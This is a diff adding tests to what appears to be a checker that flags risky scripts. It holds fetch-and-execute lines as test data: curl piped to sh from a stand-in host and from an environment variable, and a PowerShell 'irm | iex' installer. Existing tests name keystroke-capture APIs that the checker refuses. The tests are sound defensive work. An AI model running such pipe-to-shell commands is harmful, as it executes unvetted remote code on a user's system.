@@ -58,3 +58,12 @@ def test_code_that_runs_or_listens_is_compiled_and_refused() -> None:
     assert script(SOURCE.format(name="GetAsyncKeyState", more="")) is Verdict.FAIL
     assert script(SOURCE.format(name="keybd_event", more="")) is Verdict.FAIL
     assert script(SOURCE.format(name="mouse_event", more="static int F() { return 1; }")) is Verdict.FAIL
+
+
+BESIDE = "# Windows\npowershell -ExecutionPolicy ByPass -c \"irm https://astral.sh/uv/install.ps1 | iex\"\n"
+
+
+def test_curl_beside_a_line_of_powershell_is_told_its_address() -> None:
+    assert shown(f"curl -LsSf https://astral.sh/uv/install.sh | sh\n\n{BESIDE}", "") is Verdict.WARN
+    assert shown(f"curl -LsSf https://c.example.invalid/i.sh | sh\n\n{BESIDE}", "") is Verdict.FAIL
+    assert shown(f"curl -LsSf $env:U | sh\n\n{BESIDE}", "") is Verdict.FAIL
